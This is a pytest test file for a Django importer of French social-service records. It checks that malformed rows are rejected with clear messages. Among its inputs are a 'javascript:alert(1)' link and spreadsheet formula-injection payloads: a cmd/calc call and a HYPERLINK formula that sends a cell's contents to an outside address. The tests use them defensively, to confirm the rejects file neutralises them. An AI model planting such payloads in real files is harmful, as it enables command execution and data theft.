"""A bad row is refused alone: its line, its field, what it held, what would be right; the rest is loaded."""

import csv
import json
from pathlib import Path

import pytest

from maillage.directory.models import Service, Structure
from maillage.directory.tests.factories import a_service, a_structure, as_csv, as_json, fill, snapshot, take

pytestmark = pytest.mark.django_db
GOOD = a_service("test--bon")
FAULTS = {
    "an unknown thématique": (
        {"thematiques": ["equipement-et-alimentation--alimentations"]},
        "thematiques",
        "serait-ce « equipement-et-alimentation--alimentation »",
    ),
    "a thématique like no other": ({"thematiques": ["xyz"]}, "thematiques", "une valeur de la liste officielle"),
    "an unknown public": ({"publics": ["famille"]}, "publics", "serait-ce « familles »"),
    "everyone and someone": ({"publics": ["tous-publics", "femmes"]}, "publics", "« tous-publics » seul"),
    "publics given as nobody": ({"publics": []}, "publics", "« tous-publics » seul"),
    "an unknown cost": ({"frais": "gratuits"}, "frais", "serait-ce « gratuit »"),
    "a bad e-mail": ({"courriel": "accueil(a)exemple.fr"}, "courriel", "une seule adresse"),
    "two e-mails": ({"courriel": "a@exemple.fr, b@exemple.fr"}, "courriel", "une seule adresse"),
    "a French date": ({"date_maj": "01/03/2026"}, "date_maj", "AAAA-MM-JJ"),
    "a date that does not exist": ({"date_maj": "2026-02-30"}, "date_maj", "AAAA-MM-JJ"),
    "a future date": ({"date_maj": "2999-01-01"}, "date_maj", "une date passée"),
    "a date of the last century": ({"date_maj": "1999-12-31"}, "date_maj", "AAAA-MM-JJ"),
    "seconds since 1970": ({"date_maj": 1_704_067_200}, "date_maj", "AAAA-MM-JJ"),
    "seconds since 1970, as text": ({"date_maj": "1704067200"}, "date_maj", "AAAA-MM-JJ"),
    "no date": ({"date_maj": ""}, "date_maj", "AAAA-MM-JJ"),
    "no name": ({"nom": None}, "nom", "3 à 150 caractères"),
    "a name too short": ({"nom": "ab"}, "nom", "3 à 150 caractères"),
    "a name too long": ({"nom": "a" * 151}, "nom", "3 à 150 caractères"),
    "a name that is a number": ({"nom": 12345}, "nom", "3 à 150 caractères"),
    "a description too short": ({"description": "Non"}, "description", "5 à 10 000"),
    "a description too long": ({"description": "a" * 10_001}, "description", "5 à 10 000"),
    "no identifier": ({"id": ""}, "id", "un identifiant unique"),
    "an identifier that is a number": ({"id": 12}, "id", "un identifiant unique"),
    "an identifier too long": ({"id": "test--" + "a" * 200}, "id", "200 caractères au plus"),
    "a producer too long": ({"source": "a" * 101}, "source", "100 caractères au plus"),
    "a phone too long": ({"telephone": "0" * 201}, "telephone", "200 caractères au plus"),
    "a contact too long": ({"contact_nom_prenom": "a" * 201}, "contact_nom_prenom", "200 caractères au plus"),
    "a commune too long": ({"commune": "a" * 151}, "commune", "150 caractères au plus"),
    "an unknown structure": ({"structure_id": "test--personne"}, "structure_id", "une structure présente"),
    "no structure": ({"structure_id": ""}, "structure_id", "une structure présente"),
    "a postal code of four figures": ({"code_postal": "1000"}, "code_postal", "5 chiffres"),
    "a commune code cut": ({"code_insee": "7728"}, "code_insee", "5 caractères"),
    "a latitude in words": ({"latitude": "48,5 N"}, "latitude", "un nombre en degrés"),
    "a latitude off the Earth": ({"latitude": 248.5}, "latitude", "entre -90 et 90"),
    "an infinite longitude": ({"longitude": "inf"}, "longitude", "un nombre"),
    "half a week": ({"nombre_semaines": "0.5"}, "nombre_semaines", "un nombre entier"),
    "weeks without end": ({"nombre_semaines": 10**12}, "nombre_semaines", "un nombre entier"),
    "a negative duration": ({"volume_horaire_hebdomadaire": -1}, "volume_horaire_hebdomadaire", "0 ou plus"),
    "a zone that is no code": ({"zone_eligibilite": ["Seine-et-Marne"]}, "zone_eligibilite", "« france »"),
    "a link that is no address": ({"lien_mobilisation": "voir notre site"}, "lien_mobilisation", "https://exemple.fr"),
    "a link that runs a script": ({"lien_mobilisation": "javascript:alert(1)"}, "lien_mobilisation", "https://"),
    "a null character": ({"nom": "Épicerie\x00 solidaire"}, "nom", "sans caractère nul"),
    "half a character": ({"description": "Des courses \ud83d ici"}, "description", "sans caractère nul"),
    "a null character in what nobody reads": ({"autre": {"a": ["\x00"]}}, "autre", "sans caractère nul"),
}


@pytest.fixture
def structure():
    fill(a_service("test--deja-la"))
    return Structure.objects.get()


@pytest.mark.parametrize("fault", FAULTS)
def test_a_faulty_service_is_refused_with_what_would_be_right_and_the_good_one_is_taken(structure, tmp_path, fault):
    facts, field, right = FAULTS[fault]
    bad = a_service("test--mauvais") | facts
    path = tmp_path / "fiches.json"
    path.write_text(json.dumps([bad, GOOD]), encoding="utf-8")

    report = take(path)

    assert [(r.line, r.field) for r in report.rejected] == [(1, field)]
    assert right in str(report.rejected[0])
    assert report.services.created == 1
    assert not Service.objects.filter(uid="test--mauvais").exists()
    assert Service.objects.get(uid="test--bon").name == "Épicerie solidaire"


@pytest.mark.parametrize(
    ("facts", "field", "right"),
    [
        ({"siret": "123 456 789 00011"}, "siret", "14 chiffres"),
        ({"reseaux_porteurs": ["mission-local"]}, "reseaux_porteurs", "serait-ce « mission-locale »"),
        ({"site_web": "www.exemple.fr"}, "site_web", "https://exemple.fr"),
        ({"description": "Non"}, "description", "5 à 10 000"),
    ],
)
def test_a_faulty_structure_is_refused_with_what_would_be_right(tmp_path, facts, field, right):
    report = take(as_json(tmp_path, [a_structure("test--a") | facts, a_structure("test--b")]))

    assert [r.field for r in report.rejected] == [field]
    assert right in str(report.rejected[0])
    assert [structure.uid for structure in Structure.objects.all()] == ["test--b"]


def test_each_fault_of_one_row_is_told_at_once(structure, tmp_path):
    bad = a_service("test--mauvais", nom="x", date_maj="hier", courriel="non", latitude="nord")
    report = take(as_json(tmp_path, [bad, GOOD]))
    assert {r.field for r in report.rejected} == {"nom", "date_maj", "courriel", "latitude"}


def test_the_line_told_is_the_one_a_text_editor_shows(structure, tmp_path):
    records = [
        a_service("test--1", description="Sur deux\nlignes"),
        a_service("test--2", courriel="non"),
        a_service("test--3", description="Sur trois\n\nlignes, avec un « ; »"),
        a_service("test--4", frais="cher"),
    ]
    path = as_csv(tmp_path, records)
    lines = path.read_text(encoding="utf-8").split("\n")

    report = take(path)

    assert [(r.line, r.field) for r in report.rejected] == [(4, "courriel"), (8, "frais")]
    assert all(r.value in lines[r.line - 1] for r in report.rejected[:1])
    assert report.services.created == 2


def test_a_duplicate_is_refused_and_the_first_one_is_kept(structure, tmp_path):
    report = take(as_json(tmp_path, [GOOD, a_service("test--bon", nom="Un autre nom")]))

    assert [(r.line, r.field, r.right) for r in report.rejected] == [
        (2, "id", "un identifiant présent une seule fois dans le fichier")
    ]
    assert Service.objects.get(uid="test--bon").name == "Épicerie solidaire"


def test_a_duplicate_far_away_in_the_file_is_refused_too(structure, tmp_path, small_batches):
    records = [a_service(f"test--{n}") for n in range(35)]
    report = take(as_json(tmp_path, [*records, a_service("test--0", nom="Un autre nom")]))
    assert [(r.line, r.uid) for r in report.rejected] == [(36, "test--0")]


def test_a_line_with_too_few_or_too_many_cells_is_refused_by_its_number(structure, tmp_path):
    path = as_csv(tmp_path, [a_service(f"test--{n}") for n in range(4)])
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[1], lines[3] = "test", lines[3] + ",de trop"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    report = take(path)

    assert [(r.line, r.field, r.right) for r in report.rejected] == [
        (2, "ligne", "autant de valeurs que de colonnes"),
        (4, "ligne", "autant de valeurs que de colonnes"),
    ]
    assert report.services.created == 2


def test_a_short_line_among_services_does_not_withdraw_the_structures(structure, tmp_path):
    path = as_csv(tmp_path, [a_service("test--deja-la"), a_service("test--autre")])
    first, *rest = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join([first, "test", *rest]) + "\n", encoding="utf-8")

    report = take(path)

    assert len(report.rejected) == 1
    assert Structure.objects.published().count() == 1
    assert report.structures.withdrawn == 0


@pytest.mark.parametrize("stranger", ["bonjour", 12, None, ["a"], True])
def test_what_is_no_record_at_all_is_refused_and_withdraws_nothing(structure, tmp_path, stranger):
    report = take(as_json(tmp_path, [stranger, a_service("test--deja-la"), GOOD]))

    assert [(r.line, r.right) for r in report.rejected] == [(1, "une fiche, entre accolades")]
    assert Structure.objects.published().count() == 1
    assert report.services.created == 1


def test_a_service_that_forgot_its_structure_does_not_become_a_structure(structure, tmp_path):
    lost = a_service("test--perdu")
    del lost["structure_id"]

    for data in ([lost, GOOD], {"services": [lost, GOOD]}):
        report = take(as_json(tmp_path, data))
        assert [(r.uid, r.field) for r in report.rejected] == [("test--perdu", "structure_id")]
        assert Structure.objects.count() == Structure.objects.published().count() == 1


def test_the_record_of_another_source_is_not_stolen(structure, tmp_path):
    before = Service.objects.filter(uid="test--deja-la").values().get()
    thief = a_service("test--deja-la", nom="Volée", structure="voleur--maison")

    report = take(as_json(tmp_path, [a_structure("voleur--maison"), thief]), source="voleur")

    assert [r.field for r in report.rejected] == ["id"]
    assert "appartient à « test »" in str(report.rejected[0])
    assert Service.objects.filter(uid="test--deja-la").values().get() == before


def test_a_source_does_not_withdraw_the_records_of_another(structure, tmp_path):
    take(as_json(tmp_path, [a_structure("autre--maison")]), source="autre")
    assert Structure.objects.published().count() == 2


def test_records_with_columns_nobody_knows_are_taken(structure, tmp_path):
    strange = GOOD | {"score_qualite": 0.8, "doublons": [{"id": "x"}, {"id": "y"}], "extra": {"a": [1, "b", None]}}
    assert take(as_json(tmp_path, [strange, a_service("test--deja-la")])).services.created == 1
    assert take(as_json(tmp_path, [strange, a_service("test--deja-la")])).changes == 0


def test_not_a_number_is_how_some_tools_write_nothing(structure, tmp_path):
    path = tmp_path / "fiches.json"
    path.write_text(json.dumps([GOOD | {"latitude": float("nan"), "longitude": float("nan"), "autre": float("nan")}]))

    assert take(path).rejected == []
    assert Service.objects.get(uid="test--bon").latitude is None


# -- The file of rejects ---------------------------------------------------------------------------------------------


def rows_of(report):
    with Path(report.rejects_file).open(encoding="utf-8-sig", newline="") as page:
        return list(csv.DictReader(page, delimiter=";"))


def test_rejected_rows_are_kept_in_a_file_a_spreadsheet_opens(structure, tmp_path):
    report = take(as_json(tmp_path, [GOOD, a_service("test--mauvais", courriel="non")]))

    rows = rows_of(report)
    assert [(row["ligne"], row["identifiant"], row["champ"], row["valeur"]) for row in rows] == [
        ("2", "test--mauvais", "courriel", "non")
    ]
    assert "accueil@exemple.fr" in rows[0]["ce qu'il faut"]
    assert str(report.rejects_file) in " ".join(report.lines())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_rejects_is_a_formula(structure, tmp_path, start):
    formula = f'{start}HYPERLINK("http://exemple.fr?"&A1)'
    bad = a_service(f"{start}cmd|' /C calc'!A0", courriel=formula)

    report = take(as_json(tmp_path, [bad, GOOD]))

    for row in rows_of(report):
        for cell in row.values():
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_a_file_without_a_fault_leaves_no_file_of_rejects(structure, tmp_path):
    assert take(as_json(tmp_path, [GOOD])).rejects_file == ""


def test_many_faults_are_counted_and_the_first_ones_shown(structure, tmp_path):
    bad = [a_service(f"test--{n}", courriel="non") for n in range(50)]
    report = take(as_json(tmp_path, [*bad, GOOD]))

    told = list(report.lines())
    assert any("50 lignes refusées" in line for line in told)
    assert "30 autres" in told[-1]
    assert len(rows_of(report)) == 50


def test_a_rejected_row_does_not_withdraw_the_record_already_known(structure, tmp_path):
    before = Service.objects.filter(uid="test--deja-la").values().get()

    report = take(as_json(tmp_path, [a_structure(), a_service("test--deja-la", courriel="non")]))

    assert report.services.withdrawn == 0
    assert Service.objects.filter(uid="test--deja-la").values().get() == before


def test_a_file_of_rejected_rows_alone_changes_no_record(structure, tmp_path):
    before = snapshot()
    report = take(as_json(tmp_path, [a_service("test--deja-la", courriel="non")]))
    after = snapshot()
    assert report.changes == 0
    assert {k: v for k, v in after.items() if "Import" not in k} == {
        k: v for k, v in before.items() if "Import" not in k
    }
